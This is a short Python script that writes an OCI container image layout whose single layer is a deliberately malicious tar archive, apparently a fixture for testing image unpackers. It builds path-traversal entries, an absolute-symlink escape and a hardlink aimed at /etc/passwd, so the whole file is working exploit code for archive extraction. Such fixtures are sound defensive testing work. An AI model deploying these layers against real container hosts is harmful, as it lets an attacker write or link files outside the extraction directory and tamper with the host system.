#!/usr/bin/env python3
"""Write an OCI image layout whose single layer is hostile.

usage: make-evil-layout.py DEST KIND OUTSIDE
KIND: dotdot (an entry ../../OUTSIDE/evil), abs-symlink (a symlink to the
absolute OUTSIDE dir, then a file through it), hardlink (a hardlink to a
path outside the layer).
"""
import gzip, hashlib, io, json, os, sys, tarfile

dest, kind, outside = sys.argv[1], sys.argv[2], sys.argv[3]

def blob(data):
    d = hashlib.sha256(data).hexdigest()
    os.makedirs(f"{dest}/blobs/sha256", exist_ok=True)
    with open(f"{dest}/blobs/sha256/{d}", "wb") as f:
        f.write(data)
    return "sha256:" + d

raw = io.BytesIO()
with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as t:
    def add_file(name, data=b"pwned\n"):
        i = tarfile.TarInfo(name); i.size = len(data); t.addfile(i, io.BytesIO(data))
    add_file("ok.txt", b"fine\n")
    if kind == "dotdot":
        add_file("../../../../../../.." + outside + "/evil")
    elif kind == "abs-symlink":
        i = tarfile.TarInfo("link"); i.type = tarfile.SYMTYPE; i.linkname = outside
        t.addfile(i)
        add_file("link/evil")
    elif kind == "hardlink":
        i = tarfile.TarInfo("hl"); i.type = tarfile.LNKTYPE; i.linkname = "../../../../../../etc/passwd"
        t.addfile(i)
    else:
        sys.exit("unknown kind " + kind)
layer = raw.getvalue()
diff_id = "sha256:" + hashlib.sha256(layer).hexdigest()
gz = gzip.compress(layer, mtime=0)
ld = blob(gz)
config = json.dumps({"architecture": "amd64", "os": "linux",
                     "rootfs": {"type": "layers", "diff_ids": [diff_id]},
                     "config": {}}).encode()
cd = blob(config)
manifest = json.dumps({"schemaVersion": 2,
    "mediaType": "application/vnd.oci.image.manifest.v1+json",
    "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": cd, "size": len(config)},
    "layers": [{"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip", "digest": ld, "size": len(gz)}]}).encode()
md = blob(manifest)
with open(f"{dest}/oci-layout", "w") as f:
    json.dump({"imageLayoutVersion": "1.0.0"}, f)
with open(f"{dest}/index.json", "w") as f:
    json.dump({"schemaVersion": 2, "manifests": [{
        "mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": md, "size": len(manifest),
        "platform": {"architecture": "amd64", "os": "linux"},
        "annotations": {"org.opencontainers.image.ref.name": "latest"}}]}, f)
